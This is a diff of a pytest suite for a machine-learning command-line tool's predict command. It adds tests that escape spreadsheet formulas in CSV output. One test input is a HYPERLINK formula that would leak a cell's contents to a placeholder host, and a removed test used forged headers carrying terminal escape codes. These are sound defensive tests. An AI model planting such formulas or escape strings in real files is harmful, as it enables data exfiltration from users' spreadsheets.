@@ -1,11 +1,9 @@
-"""The commands fit and predict: the same answer however a table comes, and one sentence else."""
+"""The command ``predict``: the same answers however a table comes, and one sentence else."""
 
 import gzip
-import io
 import json
 import subprocess
 import sys
-import zipfile
 from functools import partial
 
 import numpy as np
@@ -17,9 +15,9 @@ import pytest
 from sklearn.naive_bayes import GaussianNB
 
 import vennforest
-from vennforest.cli import main
+from support.commands import refused, run
 from vennforest.persistence import read_header
-from vennforest.persistence.archive import FORMAT
+from vennforest.tables.write import as_text
 
 TARGET = "what happened"
 CLASSES = ["1e3", "lower", "no way", "yes "]
@@ -73,18 +71,8 @@ def folder(tmp_path_factory):
     return folder
 
 
-def run(*arguments):
-    return main([str(argument) for argument in arguments])
-
-
-def refused(capsys, *arguments):
-    """Return the one sentence that a command is refused with."""
-    capsys.readouterr()
-    assert run(*arguments) == 2
-    out, err = capsys.readouterr()
-    assert out == "" and err.startswith("Error: ") and err.count("\n") == 1, err
-    assert "Traceback" not in err
-    return err.removeprefix("Error: ").strip()
+def predict(folder, output, *more, data="new.csv"):
+    return "predict", folder / "m.skops", folder / data, "-o", output, *more
 
 
 def test_what_is_written(folder):
@@ -105,8 +93,7 @@ def test_what_is_written(folder):
     assert (out["probability"] - out["upper"]).max() < 1e-15
     header = read_header(folder / "m.skops")
     assert header["target"] == TARGET and header["classes"] == classes.tolist()
-    kinds = header["columns"]
-    assert kinds == {
+    assert header["columns"] == {
         "âge": "number",
         "city": "text",
         "company": "text",
@@ -133,7 +120,7 @@ def test_python_predicts_the_same(folder):
 
 def test_what_is_written_of_each_class_can_be_chosen(folder, tmp_path, capsys):
     output = tmp_path / "o.parquet"
-    command = ("predict", folder / "m.skops", folder / "new.csv", "-o", output)
+    command = predict(folder, output)
     assert run(*command, "--columns", "p, bounds") == 0
     plain, out = pd.read_parquet(output), pd.read_parquet(folder / "p.parquet")
     assert list(plain) == [name for name in COLUMNS if "95" not in name]
@@ -145,8 +132,6 @@ def test_what_is_written_of_each_class_can_be_chosen(folder, tmp_path, capsys):
         np.testing.assert_array_equal(out[f"high95({label})"], known.upper[:, j])
     assert (out["low95"] <= out["probability"]).all()
     assert (out["high95"] >= out["probability"]).all()
-    assert run(*command, "--columns", "confidence", "--positive", "yes ") == 0
-    assert list(pd.read_parquet(output)) == ["label", "low95(yes )", "high95(yes )"]
     assert run(*command, "--columns", "confidence", "--level", "0.9") == 0
     wide, out = out, pd.read_parquet(output)
     assert list(out)[1:3] == ["low90", "high90"]
@@ -159,17 +144,17 @@ def test_what_is_written_of_each_class_can_be_chosen(folder, tmp_path, capsys):
 
 
 @pytest.mark.parametrize("size", [3, 129])
-def test_batches_make_no_difference(folder, tmp_path, size):
-    expected = pd.read_parquet(folder / "p.parquet")
-    for name in ("new.csv", "new.parquet", "new.arrow"):
-        source = folder / name
-        if not source.exists():
-            frame = read_csv(folder / "new.csv")
-            (frame.to_parquet if name.endswith("parquet") else frame.to_feather)(source)
-        rows = ("--rows-at-once", size)
-        output = tmp_path / "o.parquet"
-        assert run("predict", folder / "m.skops", source, "-o", output, *rows) == 0
-        pd.testing.assert_frame_equal(pd.read_parquet(output), expected, check_exact=True)
+@pytest.mark.parametrize("suffix", ["csv", "parquet", "arrow"])
+def test_batches_make_no_difference(folder, tmp_path, size, suffix, monkeypatch):
+    monkeypatch.setattr("vennforest.commands.predict.ROWS_AT_ONCE", size)
+    expected, source = pd.read_parquet(folder / "p.parquet"), folder / f"new.{suffix}"
+    if not source.exists():
+        frame = read_csv(folder / "new.csv")
+        (frame.to_parquet if suffix == "parquet" else frame.to_feather)(source)
+    output = tmp_path / "o.parquet"
+    assert run(*predict(folder, output, data=source.name)) == 0
+    answers = pd.read_parquet(output)
+    pd.testing.assert_frame_equal(answers, expected, check_exact=True)
 
 
 def test_types_and_formats_make_no_difference(folder, tmp_path):
@@ -200,7 +185,7 @@ def test_types_and_formats_make_no_difference(folder, tmp_path):
 def test_identifiers_are_carried_along(folder, tmp_path):
     output = tmp_path / "o.parquet"
     ids = ("--id", "id", "--id", "city")
-    assert run("predict", folder / "m.skops", folder / "new.csv", "-o", output, *ids) == 0
+    assert run(*predict(folder, output, *ids)) == 0
     out = pd.read_parquet(output)
     new = read_csv(folder / "new.csv", dtype=str)
     assert list(out.columns) == ["id", "city", *COLUMNS]
@@ -217,30 +202,19 @@ def test_all_columns_are_carried_along(folder, tmp_path, capsys):
     output = tmp_path / "o.parquet"
     frame = read_csv(folder / "new.csv", dtype=str).rename(columns={"lower": "LOWER"})
     frame.assign(lower="1").to_csv(tmp_path / "n.csv", index=False)
-    command = ("predict", folder / "m.skops", tmp_path / "n.csv", "-o", output, "--keep")
-    message = refused(capsys, *command)
-    assert message.startswith(
-        "carried must name columns apart from those of the output, got 'lower'"
+    message = refused(
+        capsys, "predict", folder / "m.skops", tmp_path / "n.csv", "-o", output, "--keep"
     )
-    assert run(*command, "--positive", "lower") == 0  # then no column is called so
+    start = "carried must name columns apart from those of the output, got 'lower'"
+    assert message.startswith(start)
+    command = ("--columns", "confidence", "--keep", "--id", "city")  # no column is called lower
+    assert run(*predict(folder, output, *command)) == 0
     out, err = capsys.readouterr()
     assert out == "" and err.startswith("Wrote ") and err.count("\n") == 1
-    out = pd.read_parquet(output)
-    mine = ["label", *(f"{what}(lower)" for what in ("p", *ENDS))]
-    assert list(out.columns) == [*frame.columns, "lower", *mine]
-    pd.testing.assert_frame_equal(out[list(frame)], frame, check_dtype=False)
-    arrays = (folder / "new.csv", "-o", output, "--keep", "--id", "city", "--positive", "yes ")
-    assert run("predict", folder / "m.skops", *arrays) == 0
-    first = list(pd.read_parquet(output))
-    new = list(read_csv(folder / "new.csv"))
-    assert first[: len(new)] == ["city", *(name for name in new if name != "city")]
-    expected = pd.read_parquet(folder / "p.parquet")
-    out = pd.read_parquet(output)
-    for column in ("label", "p(yes )", "lower(yes )", "upper(yes )"):
-        np.testing.assert_array_equal(out[column], expected[column])
-    message = refused(capsys, "predict", folder / "m.skops", *arrays[:-1], "yes")
-    wanted = "positive must be one of ['1e3', 'lower', 'no way', 'yes '], got 'yes'"
-    assert message == f"{wanted}: did you mean 'yes '?"
+    answers, new = pd.read_parquet(output), read_csv(folder / "new.csv", dtype=str)
+    names = ["city", *(name for name in new if name != "city")]
+    assert list(answers)[: len(names)] == names
+    pd.testing.assert_frame_equal(answers[names], new[names], check_dtype=False)
 
 
 def test_a_model_without_names_keeps_all_columns(tmp_path):
@@ -256,69 +230,6 @@ def test_a_model_without_names_keeps_all_columns(tmp_path):
     np.testing.assert_array_equal(out["p(True)"], model.predict_proba(X)[:, 1])
 
 
-def test_standard_input_and_output(folder, tmp_path, capsysbinary, monkeypatch):
-    def piped(content, output="-"):
-        stdin = io.TextIOWrapper(io.BytesIO(content))
-        monkeypatch.setattr(sys, "stdin", stdin)
-        return run("predict", folder / "m.skops", "-", "-o", output), *capsysbinary.readouterr()
-
-    assert run("predict", folder / "m.skops", folder / "new.csv", "-o", tmp_path / "o.csv") == 0
-    capsysbinary.readouterr()
-    code, out, err = piped(gzip.compress((folder / "new.csv").read_bytes()))
-    assert code == 0 and out == (tmp_path / "o.csv").read_bytes()
-    assert err == b"Note: The model does not use the column 'id'.\n"
-    assert piped(b"") == (2, b"", b"Error: standard input is empty\n")
-    code, _, err = piped(b"a,b\n1,2\n", tmp_path / "p.csv")
-    assert err.startswith(b"Error: the table lacks the columns")
-    assert not (tmp_path / "p.csv").exists()
-    assert run("predict", folder / "m.skops", folder / "new.csv", "-o", "-", "--json") == 2
-    assert b"--json prints where the output would go" in capsysbinary.readouterr().err
-    assert run("predict", "-", "-", "-o", tmp_path / "p.csv") == 2
-    assert b"only one input can be standard input" in capsysbinary.readouterr().err
-    assert run("fit", folder / "train.csv", "-t", TARGET, "-o", "-") == 2
-    assert b"the model must be a file, got -" in capsysbinary.readouterr().err
-
-
-def test_a_model_says_what_it_is(folder, tmp_path, capsys):
-    assert run("show", folder / "m.skops") == 0
-    out, err = capsys.readouterr()
-    assert err == ""
-    said = {line[:12].strip(): line[12:].strip() for line in out.splitlines() if line[0] != " "}
-    assert said["Trained on"] == "400 rows of train.csv"
-    assert said["Target"] == TARGET
-    assert "'no way' " in said["Classes"] and "%" in said["Classes"]
-    assert said["Columns"].startswith("3 number, 4 text, 2 date, 1 boolean, 1 empty")
-    assert "'âge' (number)" in out and "MixedForestClassifier(n_estimators=25" in out
-    assert said["Calibrated"].startswith("by venn-abers, oob (since ")
-    assert "400 examples" in said["Calibrated"]
-    assert said["Measured"].startswith("Out of sample: accuracy ")
-    assert "Installed" not in said  # the versions are those of the file
-    assert run("show", folder / "m.skops", "--json") == 0
-    header = json.loads(capsys.readouterr().out)
-    assert header["measures"]["rows"] == 400 and header["class_counts"]["yes "] > 0
-    assert header["description"]["written"].endswith("+00:00")
-    rng = np.random.default_rng(0)
-    model = vennforest.VennAbers().fit(rng.random(20), rng.random(20) < 0.5)
-    vennforest.save(model, tmp_path / "c.skops")
-    assert run("show", tmp_path / "c.skops") == 0
-    out = capsys.readouterr().out
-    assert "Calibrated  by VennAbers(), 20 examples" in out and "Target" not in out
-
-
-def test_a_forged_header_is_shown_or_refused(folder, tmp_path, capsys):
-    path, names = tmp_path / "forged.skops", ("description", "classes", "columns", "measures")
-    for value in (None, 3, True, "x\x1b[2J\ny", [], [[1]], {}, {"a": {"b": []}}):
-        with zipfile.ZipFile(path, "w") as file:
-            header = {"format": FORMAT, **dict.fromkeys(names, value), "features": ["a\x1b", 3]}
-            file.writestr("schema.json", "{}")
-            file.writestr("vennforest.json", json.dumps(header))
-        assert run("show", path) in (0, 2)
-        out, err = capsys.readouterr()
-        assert "should not" not in err and "\x1b" not in out + err
-    for name in ("no.skops", "new.csv", ""):
-        assert "model file" in refused(capsys, "show", folder / name)
-
-
 @pytest.mark.parametrize("suffix", ["csv", "parquet"])
 def test_no_rows_give_no_rows(folder, tmp_path, suffix):
     source, output = tmp_path / f"none.{suffix}", tmp_path / f"out.{suffix}"
@@ -329,62 +240,23 @@ def test_no_rows_give_no_rows(folder, tmp_path, suffix):
     assert list(out.columns) == ["id", *COLUMNS] and len(out) == 0
 
 
-def test_json_and_quiet(folder, tmp_path, capsys):
+def test_a_summary_for_machines(folder, tmp_path, capsys):
     output = tmp_path / "o.csv"
-    frame = read_csv(folder / "new.csv").assign(more=1, id=2)
-    frame.to_csv(tmp_path / "n.csv", index=False)
     capsys.readouterr()
-    assert run("predict", folder / "m.skops", tmp_path / "n.csv", "-o", output, "--json") == 0
+    assert run(*predict(folder, output, "--json")) == 0
     out, err = capsys.readouterr()
     summary = json.loads(out)
-    assert summary["n_rows"] == 130 and sum(summary["counts"].values()) == 130
-    assert summary["columns"] == COLUMNS
-    assert err == "Note: The model does not use the columns 'id', 'more'.\n"
-    assert run("predict", folder / "m.skops", folder / "new.csv", "-o", output, "--id", "id") == 0
-    out, err = capsys.readouterr()
-    assert out == "" and err.startswith("Wrote ") and err.count("\n") == 1
+    assert err == "" and summary["n_rows"] == 130 and summary["columns"] == COLUMNS
 
 
-def test_fit_says_what_it_learnt(folder, tmp_path, capsys):
-    command = ("fit", folder / "train.csv", "-t", TARGET, "-o", tmp_path / "m.skops")
-    options = ("--trees", 15, "--jobs", 1, "--drop", "company", "--drop", "id")
-    assert run(*command, *options, "--json") == 0
-    summary = json.loads(capsys.readouterr().out)
-    labels = make_table(400)[TARGET].value_counts().to_dict()
-    assert summary["classes"] == labels and summary["n_rows"] == 400
-    model = vennforest.load(tmp_path / "m.skops")
-    X = read_csv(folder / "train.csv")
-    y = make_table(400)[TARGET].to_numpy()
-    p = model.oob_probability_
-    seen = ~np.isnan(p[:, 0])
-    share = (model.classes_[p[seen].argmax(axis=1)] == y[seen]).mean()
-    measures = summary["measures"]
-    assert measures["rows"] == seen.sum()
-    assert measures["accuracy"] == pytest.approx(share)
-    losses = ((p[seen] - (y[seen, None] == model.classes_)) ** 2).sum(axis=1)
-    assert measures["brier_score"] == pytest.approx(losses.mean())
-    shares = np.mean(y[seen, None] == model.classes_, axis=0)
-    assert measures["baseline_accuracy"] == pytest.approx(shares.max())
-    assert measures["baseline_brier_score"] == pytest.approx(1 - (shares**2).sum())
-    assert 0 < measures["mean_width"] < 1
-    assert len(X) == 400
-    assert run(*command, *options, "--method", "platt", "--calibrate-on", "holdout") == 0
-    out, err = capsys.readouterr()
-    assert out == "" and "Trained on 400 rows" in err and f"Wrote {tmp_path / 'm.skops'}" in err
-    output = tmp_path / "o.csv"
-    assert run("predict", tmp_path / "m.skops", folder / "new.csv", "-o", output) == 0
+def test_methods_without_bounds_have_fewer_columns(folder, tmp_path):
+    model, output = tmp_path / "m.skops", tmp_path / "o.csv"
+    command = ("fit", folder / "train.csv", "-t", TARGET, "-o", model, "--drop", "id")
+    assert run(*command, "--trees", 15, "--jobs", 1, "--method", "platt") == 0
+    assert run("predict", model, folder / "new.csv", "-o", output) == 0
     ends = ("low95", "high95")
-    each = [f"{what}({c})" for c in CLASSES for what in ("p", *ends)]
-    assert list(read_csv(output).columns) == ["label", "probability", *ends, *each]
-
-
-def test_fitting_twice_gives_the_same_model(folder, tmp_path):
-    for name in ("a", "b"):
-        command = ("fit", folder / "train.csv", "-t", TARGET, "-o", tmp_path / f"{name}.skops")
-        assert run(*command, "--trees", 5, "--seed", 3, "--jobs", 1) == 0
-        model, out = tmp_path / f"{name}.skops", tmp_path / f"{name}.csv"
-        assert run("predict", model, folder / "train.csv", "-o", out) == 0
-    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
+    of_classes = [f"{kind}({c})" for c in CLASSES for kind in ("p", *ends)]
+    assert list(read_csv(output).columns) == ["label", "probability", *ends, *of_classes]
 
 
 def test_columns_missing_or_retyped_are_named(folder, tmp_path, capsys):
@@ -394,10 +266,7 @@ def test_columns_missing_or_retyped_are_named(folder, tmp_path, capsys):
         source = tmp_path / name
         table.to_parquet(source) if name.endswith("parquet") else table.to_csv(source, index=False)
         output = tmp_path / "o.csv"
-        said = refused(capsys, "predict", folder / "m.skops", source, "-o", output)
-        assert sorted(path.name for path in tmp_path.iterdir()) == [name]
-        source.unlink()
-        return said
+        return refused(capsys, "predict", folder / "m.skops", source, "-o", output)
 
     assert message(frame.drop(columns="âge")) == "the table lacks the column 'âge' of training"
     assert message(frame.drop(columns=["âge", "vip"])).startswith(
@@ -431,7 +300,7 @@ def test_bad_files_and_outputs(folder, tmp_path, capsys):
     broken.write_bytes(b"PAR1" + bytes(100))
     (tmp_path / "nothing").mkdir()
     for arguments, said in [
-        ((tmp_path / "none.skops", new, "-o", out), "there is no model file"),
+        ((tmp_path / "none.skops", new, "-o", out), "none.skops: No such file or directory"),
         ((cut, new, "-o", out), "is damaged or was cut short"),
         ((text, new, "-o", out), "is not a model file"),
         ((new, new, "-o", out), "is not a model file"),
@@ -449,29 +318,19 @@ def test_bad_files_and_outputs(folder, tmp_path, capsys):
         ((model, new, "-o", out, "--id", "idd"), "did you mean 'id'?"),
     ]:
         assert said in refused(capsys, "predict", *arguments), arguments
-    train, skops = folder / "train.csv", tmp_path / "x.skops"
-    for arguments, said in [
-        ((train, "-t", "what hapened", "-o", skops), f"did you mean {TARGET!r}?"),
-        ((train, "-t", TARGET, "-o", train), "must not be written to the table itself"),
-        ((train, "-t", TARGET, "-o", skops, "--method", "magic"), "--method must be one of"),
-        ((train, "-t", TARGET, "-o", skops, "--subforest", "no"), "--subforest must be one of"),
-        ((train, "-t", "const", "-o", skops), "two classes or more"),
-        ((train, "-t", TARGET, "-o", tmp_path / "no" / "x.skops"), "there is no folder"),
-        ((empty, "-t", TARGET, "-o", skops), "is empty"),
-    ]:
-        assert said in refused(capsys, "fit", *arguments), arguments
     kept = {"broken.parquet", "cut.skops", "empty.csv", "nothing", "text.skops"}
     assert {path.name for path in tmp_path.iterdir()} == kept
 
 
-def test_a_late_error_leaves_the_old_output(folder, tmp_path, capsys):
+def test_a_late_error_leaves_the_old_output(folder, tmp_path, capsys, monkeypatch):
+    monkeypatch.setattr("vennforest.commands.predict.ROWS_AT_ONCE", 10)
     frame = read_csv(folder / "new.csv", dtype=str)
     frame.loc[125, "âge"] = "old"
     frame.to_csv(tmp_path / "n.csv", index=False)
     output = tmp_path / "o.csv"
     output.write_text("old")
     command = ("predict", folder / "m.skops", tmp_path / "n.csv", "-o", output)
-    assert "row 126" in refused(capsys, *command, "--rows-at-once", 10)
+    assert "row 126" in refused(capsys, *command)
     assert output.read_text() == "old" and len(list(tmp_path.iterdir())) == 2
 
 
@@ -494,7 +353,8 @@ def test_models_saved_in_python(tmp_path, capsys):
     command = ("predict", model, tmp_path / "n.csv", "-o", output)
     assert "X has 4 features, but" in refused(capsys, *command)
     vennforest.save(vennforest.VennAbers().fit([0.1, 0.9], [0, 1]), model)
-    assert "takes scores and no table" in refused(capsys, *command)
+    message = "must contain a CalibratedClassifier, got a VennAbers"
+    assert message in refused(capsys, *command)
 
 
 class Foreign(GaussianNB):
@@ -510,8 +370,9 @@ def test_a_model_with_a_foreign_type_needs_trust(tmp_path, capsys):
     pd.DataFrame(X, columns=["a", "b"]).to_csv(table, index=False)
     command = ("predict", model, table, "-o", output)
     name = f"{Foreign.__module__}.Foreign"
-    said = refused(capsys, *command)
-    assert f"contains {name}, which" in said and "vennforest predict with --trust" in said
+    message = refused(capsys, *command)
+    assert f"contains {name}, which" in message
+    assert "vennforest predict with --trust" in message
     assert name in refused(capsys, *command, "--trust", "somebody.Else")
     assert run(*command, "--trust", name) == 0
     second = pd.read_parquet(output)[f"p({fitted.classes_[1]})"]
@@ -524,7 +385,9 @@ def test_memory_does_not_grow_with_the_file(tmp_path):
 import sys, resource
 from pathlib import Path
 from vennforest.cli import main
-code = main(["predict", *sys.argv[1:], "--rows-at-once", "2000"])
+from vennforest.commands import predict
+predict.ROWS_AT_ONCE = 2000
+code = main(["predict", *sys.argv[1:]])
 print(code, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
 """
     rng = np.random.default_rng(0)
@@ -535,18 +398,61 @@ print(code, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
     peaks = []
     for copies in (50, 1000):
         pd.concat([X] * copies).to_csv(tmp_path / "big.csv", index=False)
-        command = [
-            sys.executable,
-            "-c",
-            code,
-            model,
-            tmp_path / "big.csv",
-            "-o",
-            tmp_path / "o.parquet",
-        ]
+        files = model, tmp_path / "big.csv", "-o", tmp_path / "o.parquet"
+        command = [sys.executable, "-c", code, *files]
         done = subprocess.run([*map(str, command)], capture_output=True, text=True, check=True)
-        code_, peak = done.stdout.split()
-        assert code_ == "0"
+        exit_code, peak = done.stdout.split()
+        assert exit_code == "0"
         peaks.append(int(peak) / 1024)
     size = (tmp_path / "big.csv").stat().st_size / 2**20
     assert size > 60 and peaks[1] - peaks[0] < 25, (size, peaks)
+
+
+# --- text that spreadsheet programs take for formulas: an apostrophe goes before it in CSV --------
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
+
+
+@pytest.mark.parametrize(
+    "text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
+)
+def test_formulas(text):
+    assert as_text(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"])
+def test_no_formulas(text):
+    assert as_text(text) == text
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("formulas")
+    rng = np.random.default_rng(0)
+    x = rng.normal(size=60)
+    frame = pd.DataFrame({"x": x, "@id": [FORMULA, "-5", None, "plain"] * 15})
+    frame["y"] = np.where(x + rng.normal(size=60) > 0, "=yes", "-no")
+    frame.to_csv(folder / "d.csv", index=False)
+    frame.to_parquet(folder / "d.parquet")
+    command = ["fit", folder / "d.csv", "-t", "y", "--drop", "@id", "-o", folder / "m.skops"]
+    assert run(*command, "--trees", 5, "--jobs", 1) == 0
+    return folder
+
+
+@pytest.mark.parametrize("data", ["d.csv", "d.parquet", "view.parquet"])
+def test_an_output_of_text_holds_no_formula(formulas, tmp_path, data):
+    if data == "view.parquet":  # a third type of text
+        table = pq.read_table(formulas / "d.parquet")
+        at = table.column_names.index("@id")
+        table = table.set_column(at, "@id", table["@id"].cast(pa.string_view()))
+        pq.write_table(table, formulas / data)
+    command = ["predict", formulas / "m.skops", formulas / data, "--id", "@id", "-o"]
+    assert run(*command, tmp_path / "p.csv") == 0
+    escaped = pd.read_csv(tmp_path / "p.csv", dtype=str)
+    assert escaped["'@id"].iloc[:4].fillna("").tolist() == ["'" + FORMULA, "-5", "", "plain"]
+    assert set(escaped["label"]) <= {"'=yes", "'-no"}
+    assert run(*command, tmp_path / "p.parquet") == 0
+    plain = pd.read_parquet(tmp_path / "p.parquet")  # text as it is
+    assert plain["@id"].iloc[0] == FORMULA
+    assert escaped["label"].tolist() == ["'" + label for label in plain["label"]]
